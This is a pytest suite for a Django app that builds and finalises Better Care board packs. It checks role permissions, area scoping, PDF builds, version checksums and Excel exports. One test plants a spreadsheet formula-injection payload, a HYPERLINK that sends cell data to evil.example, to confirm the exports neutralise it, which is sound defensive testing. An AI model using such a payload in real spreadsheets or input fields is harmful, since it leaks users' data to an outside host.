"""The board pack's pages: who may do what (GET and POST), area scoping, forms that keep what
was typed, the preview, draft builds, making Final, versions fetched byte for byte, the export."""

import hashlib
import io
import re

import openpyxl
import pytest
from django.contrib.auth.models import Group

from bettercare.models import Job
from bettercare.periods import parse_quarter
from bettercare.roles import GROUP_NAMES, Role
from reports.models import Pack, PackBuild, PackVersion, PortfolioRating
from reports.services import pack_text_save
from tests.factories import SchemeFactory, UserFactory

from .building import run_requested_build
from .pdf_reading import flat, pdf_pages

pytestmark = pytest.mark.django_db


def url(name: str, pack=None, *extra) -> str:
    from django.urls import reverse

    args = ([pack.pk] if pack is not None else []) + list(extra)
    return reverse(f"reports:{name}", args=args)


@pytest.fixture
def users(secretary, analyst, administrator, lead):
    return {
        "secretary": secretary,
        "analyst": analyst,
        "administrator": administrator,
        "lead": lead,
    }


@pytest.fixture
def final_pack(pack, login, secretary):
    client = login(secretary)
    response = client.post(url("pack_finalise", pack), FINAL)
    assert "Version 1 is Final" in run_requested_build(client, response)
    return Pack.objects.get(pk=pack.pk)


# The test pack lacks reports, figures and finance: making it Final needs a reason.
FINAL = {"confirm": "on", "reason": "The board asked for the pack as it stands."}


GET_PAGES = {
    # page: roles that may open it
    "index": {"secretary", "analyst", "administrator", "lead"},
    "pack_detail": {"secretary", "analyst", "administrator"},
    "pack_edit": {"secretary"},
    "pack_finalise": {"secretary"},
    "pack_export": {"secretary", "analyst", "administrator"},
    "portfolio": {"secretary", "analyst", "administrator"},
    "portfolio_edit": {"analyst"},
}


@pytest.mark.parametrize("page", GET_PAGES)
@pytest.mark.parametrize("role", ["secretary", "analyst", "administrator", "lead"])
def test_who_may_open_each_page(page, role, users, pack, login):
    needs_pack = page.startswith("pack_")
    response = login(users[role]).get(url(page, pack if needs_pack else None))
    assert response.status_code == (200 if role in GET_PAGES[page] else 403)


def test_a_user_without_a_role_sees_no_packs(login, area, pack):
    nobody = UserFactory(username="nobody")
    from bettercare.services import area_membership_add

    area_membership_add(user=nobody, area=area)
    assert login(nobody).get(url("index")).status_code == 403


@pytest.mark.parametrize(
    "role,name,data",
    [
        ("analyst", "pack_edit", {"brief_summary": "Hijacked", "action": "save"}),
        ("lead", "pack_edit", {"brief_summary": "Hijacked", "action": "save"}),
        ("administrator", "pack_edit", {"brief_summary": "Hijacked", "action": "save"}),
        ("analyst", "pack_finalise", FINAL),
        ("lead", "pack_build", {"output": "full"}),
        ("analyst", "pack_correction", {}),
    ],
)
def test_posts_are_refused_without_the_permission_and_change_nothing(
    role, name, data, users, pack, login
):
    response = login(users[role]).post(url(name, pack), data)
    assert response.status_code == 403
    pack.refresh_from_db()
    assert pack.brief_summary == "Quarter Two went well for the Carers scheme."
    assert pack.status == Pack.Status.DRAFT
    assert not PackBuild.objects.exists() and not PackVersion.objects.exists()


def test_only_secretaries_start_packs(users, area, login):
    data = {"board": "HWB", "quarter": "Q2 2018/19"}
    assert login(users["analyst"]).post(url("pack_create"), data).status_code == 403
    assert not Pack.objects.exists()
    response = login(users["secretary"]).post(url("pack_create"), data)
    pack = Pack.objects.get()
    assert response.status_code == 302 and response["Location"] == url("pack_detail", pack)
    assert (pack.board, str(pack.quarter)) == ("HWB", "2018-19-Q2")


def test_starting_a_pack_twice_explains_and_keeps_the_form(users, pack, login):
    response = login(users["secretary"]).post(
        url("pack_create"),
        {
            "board": "JCB",
            "quarter": "2018-19-Q2",
            "meeting_date_day": "15",
            "meeting_date_month": "11",
            "meeting_date_year": "2018",
        },
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "There is already a JCB pack for Q2 2018/19" in page
    # The date typed stays in its day, month and year boxes.
    for name, value in (("day", "15"), ("month", "11"), ("year", "2018")):
        assert f'name="meeting_date_{name}" type="text" inputmode="numeric" value="{value}"' in page


def test_only_analysts_set_portfolio_ratings(users, carers, login):
    data = {
        "form-TOTAL_FORMS": "1",
        "form-INITIAL_FORMS": "1",
        "form-0-scheme": str(carers.number),
        "form-0-rag": "green",
        "form-0-narrative": "Fine",
    }
    assert login(users["secretary"]).post(url("portfolio_edit"), data).status_code == 403
    assert not PortfolioRating.objects.exists()


def test_packs_of_another_area_are_not_found(pack, outsider, login):
    client = login(outsider)
    for name in ("pack_detail", "pack_edit", "pack_export"):
        assert client.get(url(name, pack)).status_code == 404
    assert client.post(url("pack_build", pack), {"output": "full"}).status_code == 404
    assert client.post(url("pack_finalise", pack), FINAL).status_code == 404


def test_the_pack_on_screen(pack, login, secretary, django_assert_max_num_queries):
    client = login(secretary)
    # Session, user, area, permissions; the pack; finance (4), metrics (up to 13: the summary's
    # figures, populations and replaced plans, the breakdowns and the analysts' settings for
    # the commentary, the headlines'), schemes and portfolio (8), highlight reports (3 with none
    # written), the national conditions and the programme's risks (1 each); versions; the
    # builds of the last day. See also the constant-count tests.
    with django_assert_max_num_queries(43):
        response = client.get(url("pack_detail", pack))
    html = response.content.decode()
    assert "Better Care performance report, Quarter Two 2018/19" in html
    assert "Quarter Two went well for the Carers scheme." in html
    assert 'class="bc-rag bc-rag--red">Red</strong>' in html  # colour and its written label
    assert "Make the pack Final" in html


def test_the_pack_page_reads_a_constant_number_of_queries_however_many_schemes(
    pack, login, secretary, django_assert_num_queries
):
    client = login(secretary)
    client.get(url("pack_detail", pack))  # warm caches (content types, sessions)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as two_schemes:
        client.get(url("pack_detail", pack))
    for number in range(3, 11):
        scheme = SchemeFactory(area=pack.area, number=number, host=pack.area.partners.first())
        scheme.leads.add(secretary)
    with django_assert_num_queries(len(two_schemes)):
        client.get(url("pack_detail", pack))


def test_editing_keeps_what_was_typed_when_something_is_wrong(pack, priorities, login, secretary):
    response = login(secretary).post(
        url("pack_edit", pack),
        {
            "brief_summary": "A new summary that must not be lost.",
            "contact_email": "not-an-email",
            f"highlight_{priorities[1].pk}": "Typed highlight.",
            "action": "save",
        },
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert "There is a problem" in html and "Enter a valid email address." in html
    assert "A new summary that must not be lost." in html and "Typed highlight." in html
    pack.refresh_from_db()
    assert pack.brief_summary == "Quarter Two went well for the Carers scheme."


def test_preview_shows_the_changes_without_saving_them(pack, priorities, login, secretary):
    data = {
        "data_month": "2018-08",
        "brief_summary": "Previewed summary.",
        "recommendations": "To note the preview.",
        f"highlight_{priorities[0].pk}": "Previewed highlight.",
        "exempt_sections": ["highlights"],
        "action": "preview",
    }
    client = login(secretary)
    response = client.post(url("pack_edit", pack), data)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Your changes are not saved yet" in html
    assert "Previewed summary." in html and "Previewed highlight." in html
    assert "Exempt from publication" in html
    pack.refresh_from_db()
    assert pack.brief_summary == "Quarter Two went well for the Carers scheme."
    assert pack.exempt_sections == []
    assert (
        pack.highlights.get(priority=priorities[0]).text == "Clusters now cover working age adults."
    )

    # "Keep editing" brings the form back with the text as typed.
    response = client.post(url("pack_edit", pack), {**data, "action": "edit"})
    assert "Previewed summary.</textarea>" in response.content.decode()
    # "Save" saves it.
    response = client.post(url("pack_edit", pack), {**data, "action": "save"})
    assert response.status_code == 302
    pack.refresh_from_db()
    assert pack.brief_summary == "Previewed summary." and pack.exempt_sections == ["highlights"]


def test_a_final_pack_cannot_be_edited_nor_built_as_a_draft(final_pack, login, secretary):
    client = login(secretary)
    response = client.post(
        url("pack_edit", final_pack), {"brief_summary": "Late", "action": "save"}
    )
    assert response.status_code == 302
    final_pack.refresh_from_db()
    assert final_pack.brief_summary == "Quarter Two went well for the Carers scheme."
    assert client.post(url("pack_build", final_pack), {"output": "full"}).status_code == 302
    assert not PackBuild.objects.exists()
    page = client.get(url("pack_detail", final_pack)).content.decode()
    assert "Version 1 is Final; this page shows today&#x27;s figures" in page
    assert "Build the draft PDF" not in page and "Start a correction" in page


def test_asking_for_a_draft_answers_at_once_with_the_job_s_page_then_its_download(
    pack, login, analyst, secretary
):
    client = login(analyst)
    response = client.post(url("pack_build", pack), {"output": "full"})
    # The request only asks: its answer is the job's page, the build waiting for a worker.
    job = Job.objects.get()
    assert response.status_code == 302 and response.url == url("pack_job", pack, job.pk)
    assert job.state == Job.State.QUEUED and job.created_by == analyst
    waiting = client.get(response.url).content.decode()
    assert "Waiting for a worker to start it" in waiting
    assert f'data-job-status-url="{url("pack_job_status", pack, job.pk)}"' in waiting
    assert '<script src="/static/reports/job-progress.js" defer>' in waiting  # no inline code
    status = client.get(url("pack_job_status", pack, job.pk)).json()
    assert status["state"] == "queued" and status["pages"] is None

    html = run_requested_build(client, response)
    assert "The draft PDF is ready" in html
    status = client.get(url("pack_job_status", pack, job.pk)).json()
    assert status["state"] == "done"
    assert status["step"] == "Keeping the PDF for you to download"
    assert status["pages"] == PackBuild.objects.get().pages > 1
    download = re.search(r'href="(/reports/packs/\d+/pdf/\d+/)"', html).group(1)
    assert status["download_url"] == download
    pdf = client.get(download)
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf["Content-Disposition"] == (
        'attachment; filename="E06000045-JCB-2018-19-Q2-better-care-v1-draft.pdf"'
    )
    assert "Draft of version 1" in flat(pdf_pages(pdf.content)[0])
    # The pack's page lists the build, so that anyone who may see the drafts can come back to
    # it: a build asked for by two people at once is one job, so it is not its asker's alone.
    page = login(secretary).get(url("pack_detail", pack)).content.decode()
    assert "Builds of the last day" in page and download in page
    assert login(secretary).get(download).status_code == 200


def test_two_requests_for_the_same_draft_are_one_job(pack, login, analyst, secretary):
    first = login(analyst).post(url("pack_build", pack), {"output": "full"})
    second = login(secretary).post(url("pack_build", pack), {"output": "full"})
    public = login(secretary).post(url("pack_build", pack), {"output": "public"})
    assert first.url == second.url != public.url
    assert Job.objects.count() == 2
    # The second asker is told it was under way already.
    assert "already under way" in login(secretary).get(second.url).content.decode()


def test_a_job_s_page_and_json_are_the_pack_s_own(pack, login, secretary, outsider, lead):
    from reports.services import pack_create

    response = login(secretary).post(url("pack_build", pack), {"output": "full"})
    job = Job.objects.get()
    other_pack = pack_create(area=pack.area, board="HWB", quarter=pack.quarter, user=secretary)
    assert login(secretary).get(url("pack_job", other_pack, job.pk)).status_code == 404
    assert login(secretary).get(url("pack_job_status", other_pack, job.pk)).status_code == 404
    assert login(outsider).get(response.url).status_code == 404  # another area's secretary
    assert login(lead).get(response.url).status_code == 403  # drafts are not for scheme leads
    assert login(lead).get(url("pack_job_status", pack, job.pk)).status_code == 403


def test_asking_for_json_gets_the_job_s_status_and_urls(pack, login, secretary):
    response = login(secretary).post(
        url("pack_build", pack), {"output": "public"}, HTTP_ACCEPT="application/json"
    )
    assert response.status_code == 202
    answer = response.json()
    assert answer["state"] == "queued" and answer["kind"] == "draft"
    assert answer["status_url"] == url("pack_job_status", pack, answer["id"])
    assert answer["description"] == "Draft PDF of the JCB Q2 2018/19 pack (public version)"


def test_a_failed_build_says_why_and_the_pack_can_be_built_again(pack, login, secretary):
    """A build whose pack was made Final meanwhile is refused with a plain message."""
    client = login(secretary)
    response = client.post(url("pack_build", pack), {"output": "full"})
    Pack.objects.filter(pk=pack.pk).update(status=Pack.Status.FINAL)
    html = run_requested_build(client, response)
    assert "The PDF could not be built" in html
    assert "This pack was made Final meanwhile" in html
    assert not PackBuild.objects.exists()
    Pack.objects.filter(pk=pack.pk).update(status=Pack.Status.DRAFT)
    again = client.post(url("pack_build", pack), {"output": "full"})
    assert again.url != response.url  # a new job
    assert "The draft PDF is ready" in run_requested_build(client, again)


def test_public_draft_build_leaves_out_the_exempt_sections(pack, login, secretary):
    pack_text_save(pack=pack, text={}, exempt_sections=["highlights"])
    client = login(secretary)
    html = run_requested_build(client, client.post(url("pack_build", pack), {"output": "public"}))
    download = re.search(r'href="(/reports/packs/\d+/pdf/\d+/)"', html).group(1)
    pdf = client.get(download)
    assert "v1-public-draft.pdf" in pdf["Content-Disposition"]
    assert "Admissions up." not in flat(" ".join(pdf_pages(pdf.content)))


def test_making_final_asks_for_confirmation(pack, login, secretary):
    response = login(secretary).post(url("pack_finalise", pack), {})
    assert response.status_code == 400
    assert "Tick the box to confirm" in response.content.decode()
    assert not PackVersion.objects.exists()


def test_a_final_version_is_fetched_byte_for_byte_and_survives_later_edits(
    final_pack, login, secretary, lead
):
    client = login(secretary)
    first = client.get(url("pack_version_download", final_pack, 1, "full"))
    assert (
        first["Content-Disposition"]
        == 'attachment; filename="E06000045-JCB-2018-19-Q2-better-care-v1.pdf"'
    )
    version = PackVersion.objects.get(pack=final_pack, number=1)
    assert hashlib.sha256(first.content).hexdigest() == version.full_sha256
    assert first["ETag"] == f'"{version.full_sha256}"'
    assert "Version 1, Final" in flat(pdf_pages(first.content)[0])
    figures = client.get(url("pack_version_download", final_pack, 1, "figures"))
    assert b'"brief_summary": "Quarter Two went well for the Carers scheme."' in figures.content

    # A correction: the pack is a Draft again, its text changes, and it is made Final again.
    client.post(url("pack_correction", final_pack))
    client.post(
        url("pack_edit", final_pack),
        {
            "data_month": "2018-08",
            "brief_summary": "Corrected summary.",
            "recommendations": "To note.",
            "action": "save",
        },
    )
    assert "Version 2 is Final" in run_requested_build(
        client, client.post(url("pack_finalise", final_pack), FINAL)
    )

    again = client.get(url("pack_version_download", final_pack, 1, "full"))
    assert again.content == first.content  # version 1 is as it was
    second = client.get(url("pack_version_download", final_pack, 2, "full"))
    assert second["Content-Disposition"].endswith(
        'filename="E06000045-JCB-2018-19-Q2-better-care-v2.pdf"'
    )
    assert "Corrected summary." in flat(" ".join(pdf_pages(second.content)))
    assert "Corrected summary." not in flat(" ".join(pdf_pages(again.content)))

    # A scheme lead may have the public versions, and nothing else.
    lead_client = login(lead)
    assert lead_client.get(url("pack_version_download", final_pack, 2, "public")).status_code == 200
    assert lead_client.get(url("pack_version_download", final_pack, 2, "full")).status_code == 403
    assert (
        lead_client.get(url("pack_version_download", final_pack, 2, "figures")).status_code == 403
    )
    assert "v2 public PDF" in lead_client.get(url("index")).content.decode()


def test_a_damaged_stored_file_is_not_served(final_pack, login, secretary):
    PackVersion.objects.filter(pack=final_pack).update(full_pdf=b"%PDF-tampered")
    response = login(secretary).get(url("pack_version_download", final_pack, 1, "full"))
    assert response.status_code == 500
    assert response["Content-Type"].startswith("text/html")
    assert "does not match its checksum" in response.content.decode()


def test_unknown_versions_and_files_are_not_found(final_pack, login, secretary):
    client = login(secretary)
    assert client.get(url("pack_version_download", final_pack, 2, "full")).status_code == 404
    assert client.get(url("pack_version_download", final_pack, 1, "source")).status_code == 404


def test_scheme_leads_see_only_packs_with_a_final_version(pack, login, lead):
    assert "There are no board packs to show yet." in login(lead).get(url("index")).content.decode()


def test_the_export_has_a_sheet_per_table_with_the_written_ratings(pack, login, analyst):
    response = login(analyst).get(url("pack_export", pack))
    assert response["Content-Disposition"].endswith(
        '"E06000045-JCB-2018-19-Q2-better-care-tables.xlsx"'
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["About", "Schemes", "Key highlights", "Portfolio"]
    about = {row[0]: row[1] for row in book["About"].iter_rows(min_row=2, values_only=True)}
    assert (
        about["Pack"]
        == "Joint Commissioning Board: Better Care performance report, Quarter Two 2018/19"
    )
    assert about["Version"].startswith("Draft of version 1") and about["Version"].endswith(
        "(full version)"
    )
    portfolio = [list(row) for row in book["Portfolio"].iter_rows(values_only=True)]
    assert portfolio[0][:5] == [
        "Scheme",
        "Lead(s)",
        "RAG Q1 2018/19",
        "RAG Q2 2018/19",
        "Narrative",
    ]
    assert portfolio[1][2:5] == ["Amber", "Green", "New contract."]
    assert portfolio[2][2:5] == ["Not rated", "Red", "Admissions up."]

    pack_text_save(pack=pack, text={}, exempt_sections=["highlights"])
    public = login(analyst).get(url("pack_export", pack) + "?version=public")
    assert openpyxl.load_workbook(io.BytesIO(public.content)).sheetnames == ["About", "Schemes"]


def test_the_exports_write_dates_as_dates_and_never_a_formula(pack, ratings, login, analyst):
    """The pack's workbook and the portfolio page's export are the formatted export: a bold,
    frozen header, the day a rating was updated as a date, typed text never calculated."""
    from bettercare.spreadsheets import DATE

    hostile = ratings[1]
    hostile.narrative = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    hostile.save()
    client = login(analyst)
    for content in (
        client.get(url("pack_export", pack)).content,
        client.get(url("portfolio") + "?quarter=2018-19-Q2&_export=xlsx").content,
    ):
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Portfolio"]
        assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
        header = [cell.value for cell in sheet[1]]
        carers_row = dict(zip(header, sheet[2], strict=True))
        assert carers_row["Narrative"].value == "'" + hostile.narrative
        assert carers_row["Narrative"].data_type == "s"
        assert carers_row["Updated"].value.date() == hostile.updated.date()
        assert carers_row["Updated"].number_format == DATE


def test_portfolio_ratings_page_keeps_what_was_typed_and_saves(carers, clusters, login, analyst):
    client = login(analyst)
    page = client.get(url("portfolio_edit") + "?quarter=2018-19-Q2")
    assert "1. Carers" in page.content.decode()
    data = {
        "form-TOTAL_FORMS": "2",
        "form-INITIAL_FORMS": "2",
        "form-0-scheme": "1",
        "form-0-rag": "green",
        "form-0-narrative": "Fine.",
        "form-1-scheme": "2",
        "form-1-rag": "amber",
        "form-1-narrative": "",
    }
    refused = client.post(url("portfolio_edit") + "?quarter=2018-19-Q2", data)
    assert refused.status_code == 400
    assert "Say in the narrative why it is amber." in refused.content.decode()
    assert 'value="Fine."' in refused.content.decode()
    assert not PortfolioRating.objects.exists()

    data["form-1-narrative"] = "Admissions up."
    saved = client.post(url("portfolio_edit") + "?quarter=2018-19-Q2", data)
    assert saved.status_code == 302
    ratings = PortfolioRating.objects.filter(quarter=parse_quarter("2018-19-Q2")).order_by(
        "scheme__number"
    )
    assert [(r.rag, r.narrative) for r in ratings] == [
        ("green", "Fine."),
        ("amber", "Admissions up."),
    ]
    shown = client.get(url("portfolio") + "?quarter=2018-19-Q2").content.decode()
    assert "Admissions up." in shown and 'bc-rag--amber">Amber</strong>' in shown


def test_portfolio_refuses_a_scheme_outside_the_area(carers, other_area, login, analyst):
    SchemeFactory(area=other_area, number=7, host=other_area.partners.get())
    data = {
        "form-TOTAL_FORMS": "1",
        "form-INITIAL_FORMS": "1",
        "form-0-scheme": "7",
        "form-0-rag": "green",
        "form-0-narrative": "",
    }
    response = login(analyst).post(url("portfolio_edit") + "?quarter=2018-19-Q2", data)
    assert response.status_code == 404
    assert not PortfolioRating.objects.exists()


def test_a_bad_quarter_is_explained(login, analyst, area):
    response = login(analyst).get(url("portfolio") + "?quarter=2018-19-Q7")
    assert response.status_code == 400
    assert "is not a quarter" in response.content.decode()


def test_roles_have_the_permissions_the_app_declares(users):
    assert users["secretary"].has_perm("reports.finalise_pack")
    assert not users["analyst"].has_perm("reports.change_pack")
    assert users["analyst"].has_perm("reports.change_portfoliorating")
    assert not users["lead"].has_perm("reports.view_full_pack")
    assert Group.objects.get(name="Scheme leads").permissions.filter(codename="view_pack").exists()
    # The roles are the foundation's groups: the secretary is in the board secretaries' group.
    assert users["secretary"].groups.filter(name=GROUP_NAMES[Role.BOARD_SECRETARY]).exists()


def test_two_secretaries_finalising_at_once_store_one_version(pack, login, secretary):
    """Asked twice at once, it is one job. If someone stores the version while it builds (an
    administrator's script, say), the build is refused with a plain message and stores
    nothing."""
    client = login(secretary)
    response = client.post(url("pack_finalise", pack), FINAL)
    assert client.post(url("pack_finalise", pack), FINAL).url == response.url
    PackVersion(
        pack=pack,
        number=1,
        created_by=secretary,
        full_pdf=b"%PDF other",
        full_sha256="a" * 64,
        full_pages=1,
        public_pdf=b"%PDF other",
        public_sha256="a" * 64,
        public_pages=1,
        figures_json=b"{}",
        figures_sha256="b" * 64,
    ).save()
    html = run_requested_build(client, response)
    assert "The pack was not made Final" in html
    assert "Version 1 was built, but the next version is 2: build it again." in html
    assert "Nothing was stored." in html
    assert PackVersion.objects.filter(pack=pack).count() == 1
    assert bytes(PackVersion.objects.get(pack=pack).full_pdf) == b"%PDF other"
